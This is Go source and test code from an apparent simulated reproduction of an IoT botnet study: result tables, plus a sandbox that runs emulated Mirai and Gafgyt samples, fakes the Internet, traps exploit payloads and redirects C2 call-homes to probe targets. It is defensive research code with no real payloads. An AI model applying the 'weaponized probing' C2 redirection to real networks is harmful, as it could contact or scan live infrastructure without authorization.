	out += fmt.Sprintf("top-10 combined share: %s over %d ASes total\n",
		analysis.FmtPct(t.Top10Share), t.TotalASes)
	return out
}

// Table3 is the threat-intel miss-rate measurement.
type Table3 struct {
	// Day0/May7 miss rates for all, IP-based, and DNS-based C2s.
	AllDay0, AllMay7 float64
	IPDay0, IPMay7   float64
	DNSDay0, DNSMay7 float64
	NIP, NDNS        int
}

// NewTable3 computes unreported-C2 shares among verified records.
func NewTable3(st *core.Study) Table3 {
	var t Table3
	var missIP0, missIP7, missDNS0, missDNS7 int
	for _, r := range st.C2s {
		if !r.Verified {
			continue
		}
		if r.Kind == intel.KindDNS {
			t.NDNS++
			if !r.Day0Malicious {
				missDNS0++
			}
			if !r.May7Malicious {
				missDNS7++
			}
		} else {
			t.NIP++
			if !r.Day0Malicious {
				missIP0++
			}
			if !r.May7Malicious {
				missIP7++
			}
		}
	}
	total := t.NIP + t.NDNS
	if total == 0 {
		return t
	}
	t.AllDay0 = float64(missIP0+missDNS0) / float64(total)
	t.AllMay7 = float64(missIP7+missDNS7) / float64(total)
	if t.NIP > 0 {
		t.IPDay0 = float64(missIP0) / float64(t.NIP)
		t.IPMay7 = float64(missIP7) / float64(t.NIP)
	}
	if t.NDNS > 0 {
		t.DNSDay0 = float64(missDNS0) / float64(t.NDNS)
		t.DNSMay7 = float64(missDNS7) / float64(t.NDNS)
	}
	return t
}

// Render prints the Table 3 grid.
func (t Table3) Render() string {
	return report.Table("Table 3: C2 servers unreported by threat intelligence",
		[]string{"Type", "Same Day", "May 7th 2022", "n"}, [][]string{
			{"All", analysis.FmtPct(t.AllDay0), analysis.FmtPct(t.AllMay7), strconv.Itoa(t.NIP + t.NDNS)},
			{"IP-based", analysis.FmtPct(t.IPDay0), analysis.FmtPct(t.IPMay7), strconv.Itoa(t.NIP)},
			{"DNS-based", analysis.FmtPct(t.DNSDay0), analysis.FmtPct(t.DNSMay7), strconv.Itoa(t.NDNS)},
		})
}

// Table4Row pairs a catalog vulnerability with its measured count.
type Table4Row struct {
	Vuln *vuln.Vulnerability
	// Samples is the measured number of distinct binaries
	// exploiting it.
	Samples int
}

// Table4 is the vulnerability table with measured sample counts.
type Table4 struct {
	Rows []Table4Row
}

// NewTable4 counts distinct exploiting samples per vulnerability.
func NewTable4(st *core.Study) Table4 {
	perVuln := map[string]map[string]bool{}
	for _, f := range st.Exploits {
		for _, v := range f.Vulns {
			if perVuln[v.Key] == nil {
				perVuln[v.Key] = map[string]bool{}
			}
			perVuln[v.Key][f.SHA256] = true
		}
	}
	var t Table4
	for _, v := range vuln.Catalog() {
		t.Rows = append(t.Rows, Table4Row{Vuln: v, Samples: len(perVuln[v.Key])})
	}
	return t
}

// TopKeys returns the n most-exploited vulnerability keys.
func (t Table4) TopKeys(n int) []string {
	rows := append([]Table4Row(nil), t.Rows...)
	sort.SliceStable(rows, func(i, j int) bool { return rows[i].Samples > rows[j].Samples })
	if n > len(rows) {
		n = len(rows)
	}
	keys := make([]string, 0, n)
	for _, r := range rows[:n] {
		keys = append(keys, r.Vuln.Key)
	}
	return keys
}

// Render prints the Table 4 rows (paper count alongside measured).
func (t Table4) Render() string {
	rows := make([][]string, 0, len(t.Rows))
	for _, r := range t.Rows {
		cves := "-"
		if len(r.Vuln.CVEs) > 0 {
			cves = r.Vuln.CVEs[0]
			if len(r.Vuln.CVEs) > 1 {
				cves += "+" + r.Vuln.CVEs[1]
			}
		}
		exploitID := r.Vuln.ExploitID
		if exploitID == "" {
			exploitID = "N/A"
		}
		rows = append(rows, []string{
			strconv.Itoa(r.Vuln.ID), r.Vuln.Key, cves, exploitID,
			r.Vuln.Published.Format("2006-01-02"), r.Vuln.Device,
			strconv.Itoa(r.Samples), strconv.Itoa(r.Vuln.PaperSamples),
		})
	}
	return report.Table("Table 4: exploited vulnerabilities",
		[]string{"ID", "Key", "CVE", "Exploit ID", "Published", "Device", "Samples", "(paper)"}, rows)
}

// Table5 is the probing port configuration.
type Table5 struct{ Ports []uint16 }

// NewTable5 returns the configured probe ports.
func NewTable5() Table5 { return Table5{Ports: core.ProbePorts} }

// Render prints the port list.
func (t Table5) Render() string {
	s := "Table 5: ports probed for D-PC2\n  "
	for i, p := range t.Ports {
		if i > 0 {
			s += ", "
		}
		s += strconv.Itoa(int(p))
	}
	return s + "\n"
}

// Table6 is the malware family registry.
type Table6 struct{ Families []malware.FamilyInfo }

// NewTable6 returns the Table 6 rows.
func NewTable6() Table6 { return Table6{Families: malware.Families()} }

// Render prints the family descriptions.
func (t Table6) Render() string {
	rows := make([][]string, 0, len(t.Families))
	for _, f := range t.Families {
		kind := "C2:" + f.Protocol
		if f.P2P {
			kind = "P2P"
		}
		rows = append(rows, []string{f.Name, kind, f.Description})
	}
	return report.Table("Table 6: malware families", []string{"Family", "Comm", "Description"}, rows)
}

// Table7 is the per-vendor detection count over C2 IPs.
type Table7 struct {
	Rows []analysis.Entry
	// SampleSize is how many C2 IPs were queried (paper: 1000).
	SampleSize int
	// EverFlagging is the number of vendors flagging >= 1 C2
	// (Appendix D: 44 of 89).
	EverFlagging int
}

// NewTable7 queries the May-7 verdict for up to 1000 IP-based C2s
// and counts flags per vendor.
func NewTable7(st *core.Study) Table7 {
	perVendor := analysis.NewHistogram()
	var addrs []string
	for _, r := range st.C2s {
		if r.Kind == intel.KindIP {
			addrs = append(addrs, r.IP.String())
		}
	}
	sort.Strings(addrs)
	if len(addrs) > 1000 {
		addrs = addrs[:1000]
	}
	for _, host := range addrs {
		rep := st.W.Intel.QueryAddress(host, world.May7)
		for _, v := range rep.Vendors {
			perVendor.Add(v, 1)
		}
	}
	return Table7{
		Rows:         perVendor.Sorted(),
		SampleSize:   len(addrs),
		EverFlagging: len(perVendor.Labels()),
	}
}

// Render prints the top-20 vendors.
func (t Table7) Render() string {
	rows := make([][]string, 0, 20)
	for i, e := range t.Rows {
		if i == 20 {
			break
		}
		rows = append(rows, []string{e.Label, strconv.Itoa(e.Count)})
	}
	out := report.Table(fmt.Sprintf("Table 7: vendor detections over %d C2 IPs", t.SampleSize),
		[]string{"Vendor", "C2s flagged"}, rows)
	out += fmt.Sprintf("vendors ever flagging a C2: %d\n", t.EverFlagging)
	return out
}
