package sandbox

import (
	"math/rand"
	"net/netip"
	"strconv"
	"strings"

	"malnet/internal/detrand"
	"malnet/internal/packet"
	"malnet/internal/simnet"
)

// detrandRand derives a deterministic *rand.Rand for a sample run.
func detrandRand(seed int64, sha string) *rand.Rand {
	return rand.New(rand.NewSource(int64(detrand.Hash64(seed, "bot", sha))))
}

// resolveSpec resolves a config "host:port" to a concrete endpoint
// without emitting traffic (used to build the egress allowlist).
func (sb *Sandbox) resolveSpec(spec string) (simnet.Addr, bool) {
	i := strings.LastIndexByte(spec, ':')
	if i < 0 {
		return simnet.Addr{}, false
	}
	port, err := strconv.ParseUint(spec[i+1:], 10, 16)
	if err != nil {
		return simnet.Addr{}, false
	}
	host := spec[:i]
	if ip, perr := netip.ParseAddr(host); perr == nil {
		return simnet.Addr{IP: ip, Port: uint16(port)}, true
	}
	if sb.cfg.DNS != nil {
		if ip, ok := sb.cfg.DNS(host); ok {
			return simnet.Addr{IP: ip, Port: uint16(port)}, true
		}
	}
	return simnet.Addr{}, false
}

// resolve is the bot-facing DNS hook. It records the query, emits a
// realistic DNS packet exchange, and answers per the mode: InetSim
// answers everything with its own address in isolation; the world's
// DNS answers in live mode.
func (sb *Sandbox) resolve(name string) (netip.Addr, bool) {
	rs := sb.run
	if rs == nil {
		return netip.Addr{}, false
	}
	rs.report.DNSQueries = append(rs.report.DNSQueries, name)

	var answer netip.Addr
	ok := false
	if rs.opts.Mode == ModeIsolated {
		if !rs.opts.DisableFakeServices {
			answer, ok = sb.cfg.InetSimIP, true
		}
	} else if sb.cfg.DNS != nil {
		answer, ok = sb.cfg.DNS(name)
	}

	// Wire realism: query out, answer (or NXDOMAIN) back, visible
	// to the capture tap.
	q := packet.NewDNSQuery(uint16(len(rs.report.DNSQueries)), name)
	if wire, err := q.Encode(); err == nil {
		sb.host.SendUDP(53530, simnet.Addr{IP: sb.cfg.DNSServer, Port: 53}, wire)
	}
	resp := q.Answer(answer, 60)
	if !ok {
		resp = q.Answer(netip.Addr{}, 0)
	}
	if wire, err := resp.Encode(); err == nil {
		rs.report.Capture = append(rs.report.Capture, simnet.PacketRecord{
			Time:  sb.clock.Now(),
			Src:   simnet.Addr{IP: sb.cfg.DNSServer, Port: 53},
			Dst:   simnet.Addr{IP: sb.cfg.IP, Port: 53530},
			Proto: simnet.ProtoUDP, Payload: wire, Size: len(wire) + 28, Count: 1,
		})
	}
	if ok {
		rs.c2Allow[answer] = true // resolved C2 endpoints pass egress
		rs.report.Resolutions[name] = answer
		rs.lastName[answer] = name
	}
	return answer, ok
}

// dial is the MITM layer every bot TCP connection crosses. It
// implements C2 redirection (weaponized probing), isolated-mode
// InetSim routing, and the handshaker's fake-victim trap, while
// recording a DialRecord for the pipeline's classifiers.
func (sb *Sandbox) dial(to simnet.Addr, h simnet.ConnHandler) *simnet.Conn {
	rs := sb.run
	if rs == nil {
		return sb.host.DialTCP(to, h)
	}
	rec := &DialRecord{Time: sb.clock.Now(), Requested: to, Actual: to}
	rec.Name = rs.lastName[to.IP]
	rs.report.Dials = append(rs.report.Dials, rec)

	isC2Bound := rs.c2Allow[to.IP]
	switch {
	case isC2Bound && rs.opts.RedirectC2 != nil:
		// Weaponized probing: send the call-home at the probe
		// target instead.
		rec.Actual = *rs.opts.RedirectC2
		rs.c2Allow[rec.Actual.IP] = true
	case isC2Bound && rs.opts.Mode == ModeIsolated:
		// Fake Internet: the C2 session terminates at InetSim.
		rec.Actual = simnet.Addr{IP: sb.cfg.InetSimIP, Port: to.Port}
		sb.ensureInetSimPort(to.Port)
	case !isC2Bound:
		rec.Actual = sb.handshakerRoute(to)
	}

	wrapped := simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) {
			rec.Established = true
			h.OnConnect(c)
		},
		Data: func(c *simnet.Conn, b []byte) {
			if rec.FirstIn == nil {
				rec.FirstIn = append([]byte{}, b...)
			}
			rec.BytesIn += len(b)
			h.OnData(c, b)
		},
		Close: func(c *simnet.Conn, err error) {
			rec.Err = err
			h.OnClose(c, err)
		},
	}
	conn := sb.host.DialTCP(rec.Actual, wrapped)
	rec.Local = conn.LocalAddr()
	// The run tap fills FirstOut/BytesOut from outbound payloads
	// keyed by this flow.
	rs.dialFlow[flowKey{rec.Local, rec.Actual}] = rec
	return conn
}

// handshakerRoute counts scan targets per port and, past the
// threshold, redirects the dial to the fake-victim trap.
func (sb *Sandbox) handshakerRoute(to simnet.Addr) simnet.Addr {
	rs := sb.run
	if rs.opts.HandshakerThreshold <= 0 {
		return to
	}
	seen := rs.scanSeen[to.Port]
	if seen == nil {
		seen = map[netip.Addr]bool{}
		rs.scanSeen[to.Port] = seen
	}
	seen[to.IP] = true
	if !rs.trapped[to.Port] && len(seen) >= rs.opts.HandshakerThreshold {
		rs.trapped[to.Port] = true
		sb.armTrap(to.Port, len(seen))
	}
	if rs.trapped[to.Port] {
		return simnet.Addr{IP: sb.cfg.TrapIP, Port: to.Port}
	}
	return to
}

// armTrap installs the fake victim on the trap host: it completes
// the TCP handshake and records the first payload as a captured
// exploit (§2.4).
func (sb *Sandbox) armTrap(port uint16, distinct int) {
	rs := sb.run
	sb.trap.ListenTCP(port, func(local, remote simnet.Addr) simnet.ConnHandler {
		got := false
		return simnet.ConnFuncs{
			Data: func(c *simnet.Conn, b []byte) {
				if got || rs == nil {
					return
				}
				got = true
				rs.report.Exploits = append(rs.report.Exploits, CapturedExploit{
					Time:        sb.clock.Now(),
					Port:        port,
					Payload:     append([]byte{}, b...),
					DistinctIPs: distinct,
				})
			},
		}
	})
}

// installInetSim arms the fake-Internet host's generic services: a
// catch-all HTTP responder on common web ports; other ports are
// armed lazily by dial routing.
func (sb *Sandbox) installInetSim() {
	for _, p := range []uint16{80, 443, 8080} {
		sb.ensureInetSimPort(p)
	}
}

// ensureInetSimPort makes the InetSim host accept connections on
// port, answering HTTP-looking requests with a generic 200 and
// staying silent otherwise (so C2 handshakes flow into the capture).
func (sb *Sandbox) ensureInetSimPort(port uint16) {
	if sb.inet.TCPListening(port) {
		return
	}
	sb.inet.ListenTCP(port, func(local, remote simnet.Addr) simnet.ConnHandler {
		return simnet.ConnFuncs{
			Data: func(c *simnet.Conn, b []byte) {
				if len(b) > 4 && (string(b[:4]) == "GET " || string(b[:5]) == "POST ") {
					c.Write([]byte("HTTP/1.0 200 OK\r\nServer: INetSim HTTP Server\r\nContent-Length: 0\r\n\r\n"))
				}
			},
		}
	})
}
