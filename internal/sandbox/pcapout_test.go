package sandbox

import (
	"bytes"
	"io"
	"testing"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/packet"
	"malnet/internal/pcap"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

func TestWritePCAPRoundTrip(t *testing.T) {
	clock := simclock.New(t0)
	n := simnet.New(clock, simnet.DefaultConfig())
	sb := New(n, Config{Seed: 1})
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, 31)
	rep, err := sb.Run(raw, RunOptions{Mode: ModeIsolated, Duration: 10 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := rep.WritePCAP(&buf, 4); err != nil {
		t.Fatal(err)
	}
	r, err := pcap.NewReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if r.Link != pcap.LinkTypeRaw {
		t.Fatalf("link = %d", r.Link)
	}
	var frames, decoded, c2Syn int
	for {
		rec, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		frames++
		p, err := packet.Decode(rec.Data)
		if err != nil {
			continue
		}
		decoded++
		// In isolated mode the sandbox NATs the C2 dial to the
		// InetSim host, so the wire shows the redirected target on
		// the original C2 port.
		if p.TCP != nil && p.TCP.SYN && p.TCP.DstPort == 23 {
			c2Syn++
		}
	}
	if frames == 0 || decoded == 0 {
		t.Fatalf("frames=%d decoded=%d", frames, decoded)
	}
	if float64(decoded)/float64(frames) < 0.99 {
		t.Fatalf("only %d of %d frames decoded", decoded, frames)
	}
	if c2Syn == 0 {
		t.Fatal("capture lost the C2 call-home SYNs")
	}
}
