// Package sandbox is the CnCHunter-equivalent dynamic-analysis
// environment (§2.1): it activates a MIPS 32B sample on a virtual
// host, captures every packet it emits, fakes the Internet
// InetSim-style when isolation is required, traps exploit payloads
// with the handshaker's fake victims (§2.4), contains non-C2 egress
// SNORT-style (§2.6), and — in weaponized mode — redirects the
// sample's C2 call-home to arbitrary probe targets (§2.1's second
// mode of execution).
package sandbox

import (
	"fmt"
	"net/netip"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/c2"
	"malnet/internal/malware"
	"malnet/internal/obs"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

// Mode selects how the sandbox connects the sample to the world.
type Mode uint8

// Execution modes.
const (
	// ModeIsolated fakes the Internet: DNS resolves everything to
	// an InetSim host that accepts any TCP connection. No traffic
	// reaches real hosts. This is how C2 addresses are detected
	// without contacting them (§2.6a).
	ModeIsolated Mode = iota
	// ModeLive lets the sample reach the (virtual) Internet,
	// optionally restricted to C2-only egress (§2.5: "restricted
	// mode (only C2 traffic is allowed)").
	ModeLive
)

// RunOptions configures one activation.
type RunOptions struct {
	Mode Mode
	// Duration is the analysis window (the paper watches live C2
	// sessions for 2 hours).
	Duration time.Duration
	// RestrictToC2 contains all egress except to the sample's
	// resolved C2 endpoints (and DNS). Only meaningful in
	// ModeLive.
	RestrictToC2 bool
	// RedirectC2 rewrites the sample's C2-bound dials to this
	// target — CnCHunter's weaponized probing.
	RedirectC2 *simnet.Addr
	// DisableFakeServices turns off InetSim in isolated mode: DNS
	// queries fail and nothing answers TCP. Used by the activation
	// ablation (§6f) to show why the paper deploys InetSim.
	DisableFakeServices bool
	// DisableScanning suppresses the sample's victim scanner for
	// this run — used by the C2-liveness and DDoS-watch windows,
	// where only C2 traffic matters and scan containment noise
	// would dominate the event budget.
	DisableScanning bool
	// HandshakerThreshold enables exploit trapping: once a scanned
	// port has been tried against this many distinct addresses,
	// later dials to it are redirected to a fake victim and the
	// first payload is captured. 0 disables. The paper uses 20.
	HandshakerThreshold int
	// OnAttack surfaces ground-truth attack executions (tests and
	// dataset validation; the pipeline itself re-derives attacks
	// from traffic).
	OnAttack func(cmd c2.Command)
	// EventBudget arms the activation watchdog: an emulation that
	// fires this many simulated events before its window closes is
	// declared hung, aborted, and reported with TimedOut set. 0
	// disables the watchdog (unbounded, the historical behavior).
	EventBudget int
}

// DialRecord is one outbound TCP connection attempt observed by the
// sandbox MITM layer.
type DialRecord struct {
	Time time.Time
	// Requested is where the sample wanted to connect.
	Requested simnet.Addr
	// Actual is where the sandbox routed it (differs under
	// redirection).
	Actual simnet.Addr
	// Local is the sample-side ephemeral endpoint.
	Local simnet.Addr
	// Name is the DNS name the sample resolved immediately before
	// this dial, when the destination came from a lookup. It
	// disambiguates attribution when several names resolve to one
	// address (in isolated mode, everything resolves to InetSim).
	Name string
	// Established reports handshake completion.
	Established bool
	// BytesIn / BytesOut are payload totals over the connection.
	BytesIn, BytesOut int
	// FirstOut is the first payload the sample sent.
	FirstOut []byte
	// FirstIn is the first payload the peer sent.
	FirstIn []byte
	// Err is the failure, if the dial failed.
	Err error
}

// CapturedExploit is a handshaker catch.
type CapturedExploit struct {
	Time time.Time
	// Port is the victim port the exploit targeted.
	Port uint16
	// Payload is the captured exploit bytes.
	Payload []byte
	// DistinctIPs is how many addresses the sample had scanned on
	// the port when the trap armed.
	DistinctIPs int
}

// Report is the outcome of one activation.
type Report struct {
	// SHA256 identifies the sample.
	SHA256 string
	// HostIP is the sandbox host the sample ran on.
	HostIP netip.Addr
	// Activated reports whether the sample passed its anti-sandbox
	// gate and began operating (the paper's ~90 % activation rate).
	Activated bool
	// Config is the behavioral profile the emulation recovered.
	Config *binfmt.BotConfig
	// Capture is every packet the sample's host sent or received.
	Capture []simnet.PacketRecord
	// Dials are the MITM-observed TCP attempts in order.
	Dials []*DialRecord
	// DNSQueries are the names the sample resolved, in order.
	DNSQueries []string
	// Resolutions maps resolved names to the answers they got,
	// letting the pipeline attribute dials to DNS-based C2s.
	Resolutions map[string]netip.Addr
	// Exploits are handshaker catches.
	Exploits []CapturedExploit
	// TimedOut reports that the activation watchdog aborted a hung
	// emulation: the sample exhausted RunOptions.EventBudget before
	// the analysis window closed. The partial capture up to the abort
	// is retained.
	TimedOut bool
	// Faults counts the network faults injected into this activation
	// (zero when no fault plan is installed).
	Faults simnet.FaultStats
	// EventsFired counts simulated events the activation consumed —
	// the watchdog's meter.
	EventsFired int
	// Started/Ended bound the analysis window.
	Started, Ended time.Time
}

// Config describes the sandbox installation.
type Config struct {
	// IP is the sandbox host's address (the infected device).
	IP netip.Addr
	// InetSimIP hosts the fake-Internet services in ModeIsolated.
	InetSimIP netip.Addr
	// TrapIP hosts the handshaker's fake victims.
	TrapIP netip.Addr
	// DNS resolves names in ModeLive (the world's name service);
	// nil means every lookup fails.
	DNS func(name string) (netip.Addr, bool)
	// DNSServer is where fake DNS query packets are addressed
	// (traffic realism); zero means 8.8.8.8.
	DNSServer netip.Addr
	// Seed drives per-run determinism.
	Seed int64
}

// Sandbox is an installed analysis environment. One Sandbox runs one
// sample at a time.
type Sandbox struct {
	cfg   Config
	net   *simnet.Network
	clock *simclock.Clock
	host  *simnet.Host
	inet  *simnet.Host
	trap  *simnet.Host

	run *runState
}

// flowKey identifies a dialed connection by its endpoints.
type flowKey struct {
	local, remote simnet.Addr
}

// runState is the per-activation mutable state.
type runState struct {
	opts     RunOptions
	report   *Report
	tap      simnet.Tap
	bot      *malware.Bot
	c2Allow  map[netip.Addr]bool
	scanSeen map[uint16]map[netip.Addr]bool
	trapped  map[uint16]bool
	dialFlow map[flowKey]*DialRecord
	// lastName remembers the most recent name resolved to each
	// address; the next dial to that address inherits it.
	lastName map[netip.Addr]string
}

// New installs a sandbox on the network.
func New(n *simnet.Network, cfg Config) *Sandbox {
	if !cfg.IP.IsValid() {
		cfg.IP = netip.MustParseAddr("10.99.0.2")
	}
	if !cfg.InetSimIP.IsValid() {
		cfg.InetSimIP = netip.MustParseAddr("10.99.0.3")
	}
	if !cfg.TrapIP.IsValid() {
		cfg.TrapIP = netip.MustParseAddr("10.99.0.4")
	}
	if !cfg.DNSServer.IsValid() {
		cfg.DNSServer = netip.MustParseAddr("8.8.8.8")
	}
	sb := &Sandbox{
		cfg:   cfg,
		net:   n,
		clock: n.Clock,
		host:  n.AddHost(cfg.IP),
		inet:  n.AddHost(cfg.InetSimIP),
		trap:  n.AddHost(cfg.TrapIP),
	}
	sb.installInetSim()
	return sb
}

// Host returns the sandbox's infected-device host.
func (sb *Sandbox) Host() *simnet.Host { return sb.host }

// Network returns the network the sandbox is installed on — shard
// owners use it to install the study's fault plan on a freshly built
// shard net.
func (sb *Sandbox) Network() *simnet.Network { return sb.net }

// NewShard installs a sandbox on a private, freshly built network
// driven by clock — the isolation unit of the parallel study
// executor. The network is seeded like the shared world net, and
// since simnet latency is a pure function of (seed, address pair),
// the shard observes the same delays the world would. It only ever
// hosts the sandbox trio, which is all an isolated-mode run can
// reach: InetSim impersonates every C2 and scanned addresses are
// dead air either way. A non-nil rec redirects the shard network's
// metering (traffic counters, fault counters/events) onto the
// caller's recorder — the executor passes the per-sample recorder so
// shard telemetry merges back in feed order.
func NewShard(clock *simclock.Clock, seed int64, dns func(name string) (netip.Addr, bool), rec *obs.Recorder) *Sandbox {
	netCfg := simnet.DefaultConfig()
	netCfg.Seed = seed
	n := simnet.New(clock, netCfg)
	if rec != nil {
		n.SetObs(rec)
	}
	return New(n, Config{DNS: dns, Seed: seed})
}

// Run activates raw as a sample for opts.Duration of virtual time
// and returns the analysis report. The caller drives the clock; Run
// itself advances it (it is synchronous in virtual time).
func (sb *Sandbox) Run(raw []byte, opts RunOptions) (*Report, error) {
	bin, err := binfmt.Parse(raw)
	if err != nil {
		return nil, fmt.Errorf("sandbox: loading sample: %w", err)
	}
	cfg, err := binfmt.ExtractConfig(bin)
	if err != nil {
		return nil, fmt.Errorf("sandbox: emulating sample %s: %w", bin.SHA256[:12], err)
	}
	if opts.Duration <= 0 {
		opts.Duration = 2 * time.Hour
	}
	report := &Report{
		SHA256:      bin.SHA256,
		HostIP:      sb.cfg.IP,
		Config:      cfg,
		Started:     sb.clock.Now(),
		Resolutions: map[string]netip.Addr{},
	}
	rs := &runState{
		opts:     opts,
		report:   report,
		c2Allow:  map[netip.Addr]bool{},
		scanSeen: map[uint16]map[netip.Addr]bool{},
		trapped:  map[uint16]bool{},
		dialFlow: map[flowKey]*DialRecord{},
		lastName: map[netip.Addr]string{},
	}
	sb.run = rs

	// Pre-resolve configured C2 endpoints for the egress allowlist.
	for _, spec := range cfg.C2Addrs {
		if addr, ok := sb.resolveSpec(spec); ok {
			rs.c2Allow[addr.IP] = true
		}
	}

	tap := simnet.TapFunc(func(rec simnet.PacketRecord, outbound bool) {
		report.Capture = append(report.Capture, rec)
		if outbound && rec.Proto == simnet.ProtoTCP && len(rec.Payload) > 0 {
			if d := rs.dialFlow[flowKey{rec.Src, rec.Dst}]; d != nil {
				if d.FirstOut == nil {
					d.FirstOut = rec.Payload
				}
				d.BytesOut += len(rec.Payload)
			}
		}
	})
	rs.tap = tap
	detach := sb.host.AttachTap(tap)
	if opts.Mode == ModeLive && opts.RestrictToC2 {
		sb.host.Egress = func(dst simnet.Addr, proto simnet.Protocol) bool {
			if dst.IP == sb.cfg.DNSServer || dst.IP == sb.cfg.InetSimIP || dst.IP == sb.cfg.TrapIP {
				return true
			}
			return rs.c2Allow[dst.IP]
		}
	}

	botCfg := cfg
	if opts.DisableScanning {
		c := *cfg
		c.ScanPorts = nil
		botCfg = &c
	}
	env := malware.Env{
		Host:       sb.host,
		Clock:      sb.clock,
		Dialer:     malware.DialerFunc(sb.dial),
		Resolve:    sb.resolve,
		Rand:       detrandRand(sb.cfg.Seed, bin.SHA256),
		OnAttack:   opts.OnAttack,
		OnActivate: func() { report.Activated = true },
	}
	bot := malware.New(botCfg, env)
	rs.bot = bot
	bot.Start()

	faultsBefore := sb.net.FaultStats()
	if opts.EventBudget > 0 {
		fired, exhausted := sb.clock.RunBudget(report.Started.Add(opts.Duration), opts.EventBudget)
		report.EventsFired, report.TimedOut = fired, exhausted
	} else {
		report.EventsFired = sb.clock.RunFor(opts.Duration)
	}

	bot.Stop()
	detach()
	sb.host.Egress = nil
	report.Faults = sb.net.FaultStats().Sub(faultsBefore)
	report.Ended = sb.clock.Now()
	sb.run = nil
	if opts.Mode == ModeLive {
		// Drain connection teardown: the bot's Stop closed its C2
		// sessions, but the FIN segments are still in flight (one-way
		// latency tops out under 200ms). Running the clock briefly
		// past the window lets them land so the servers close their
		// session state and cancel the attached keepalive/TTL timers.
		// Without this the shared-world event queue keeps dead-session
		// timers whose firing depends on when the *next* window opens
		// — state a checkpoint/resume cycle cannot reproduce. The
		// drain is unconditional so an uninterrupted run and a resumed
		// one see identical queues.
		sb.clock.RunFor(time.Second)
	}
	return report, nil
}
