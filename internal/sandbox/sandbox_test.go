package sandbox

import (
	"bytes"
	"math/rand"
	"net/netip"
	"strings"
	"testing"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/c2"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

var t0 = time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)

func encodeSample(t *testing.T, cfg binfmt.BotConfig, seed int64) []byte {
	t.Helper()
	raw, err := binfmt.Encode(cfg, rand.New(rand.NewSource(seed)), nil)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func newEnv() (*simnet.Network, *simclock.Clock) {
	clock := simclock.New(t0)
	return simnet.New(clock, simnet.DefaultConfig()), clock
}

func TestIsolatedRunDetectsC2Attempt(t *testing.T) {
	n, _ := newEnv()
	sb := New(n, Config{Seed: 1})
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, 1)
	rep, err := sb.Run(raw, RunOptions{Mode: ModeIsolated, Duration: 10 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Dials) == 0 {
		t.Fatal("no dials recorded")
	}
	d := rep.Dials[0]
	if d.Requested != simnet.AddrFrom("60.0.0.9", 23) {
		t.Fatalf("requested = %v", d.Requested)
	}
	if d.Actual.IP != sb.cfg.InetSimIP {
		t.Fatalf("actual = %v, want InetSim", d.Actual)
	}
	if !d.Established {
		t.Fatal("InetSim did not accept the C2 session")
	}
	if !bytes.Equal(d.FirstOut, c2.MiraiHandshake) {
		t.Fatalf("FirstOut = %x, want mirai handshake", d.FirstOut)
	}
	if len(rep.Capture) == 0 {
		t.Fatal("empty capture")
	}
}

func TestIsolatedRunRecordsDNSQueries(t *testing.T) {
	n, _ := newEnv()
	sb := New(n, Config{Seed: 1})
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"cnc.daddy.example:6667"},
	}, 2)
	rep, err := sb.Run(raw, RunOptions{Mode: ModeIsolated, Duration: 5 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.DNSQueries) == 0 || rep.DNSQueries[0] != "cnc.daddy.example" {
		t.Fatalf("queries = %v", rep.DNSQueries)
	}
	// DNS traffic must appear in the capture.
	var dnsPackets int
	for _, rec := range rep.Capture {
		if rec.Proto == simnet.ProtoUDP && (rec.Dst.Port == 53 || rec.Src.Port == 53) {
			dnsPackets++
		}
	}
	if dnsPackets < 2 {
		t.Fatalf("dns packets in capture = %d, want >= 2", dnsPackets)
	}
}

func TestLiveRunReachesRealC2(t *testing.T) {
	n, _ := newEnv()
	c2.NewServer(n, c2.ServerConfig{
		Family: c2.FamilyMirai, Addr: simnet.AddrFrom("60.0.0.9", 23),
		Birth: t0, Death: t0.Add(100 * 24 * time.Hour), AlwaysOn: true,
	})
	sb := New(n, Config{Seed: 1})
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, 3)
	rep, err := sb.Run(raw, RunOptions{Mode: ModeLive, Duration: 10 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, d := range rep.Dials {
		if d.Actual == simnet.AddrFrom("60.0.0.9", 23) && d.Established {
			found = true
		}
	}
	if !found {
		t.Fatal("live C2 session not established")
	}
}

func TestWeaponizedRedirectProbesTarget(t *testing.T) {
	n, _ := newEnv()
	// A live C2 at the probe target, different from the binary's
	// configured (dead) C2.
	c2.NewServer(n, c2.ServerConfig{
		Family: c2.FamilyMirai, Addr: simnet.AddrFrom("61.0.0.5", 1312),
		Birth: t0, Death: t0.Add(100 * 24 * time.Hour), AlwaysOn: true,
	})
	sb := New(n, Config{Seed: 1})
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, 4)
	probe := simnet.AddrFrom("61.0.0.5", 1312)
	rep, err := sb.Run(raw, RunOptions{Mode: ModeLive, Duration: 5 * time.Minute, RedirectC2: &probe})
	if err != nil {
		t.Fatal(err)
	}
	var hit *DialRecord
	for _, d := range rep.Dials {
		if d.Actual == probe {
			hit = d
		}
	}
	if hit == nil {
		t.Fatal("probe target never dialed")
	}
	if hit.Requested != simnet.AddrFrom("60.0.0.9", 23) {
		t.Fatalf("requested = %v, want the configured C2", hit.Requested)
	}
	if !hit.Established {
		t.Fatal("probe session not established with live C2")
	}
}

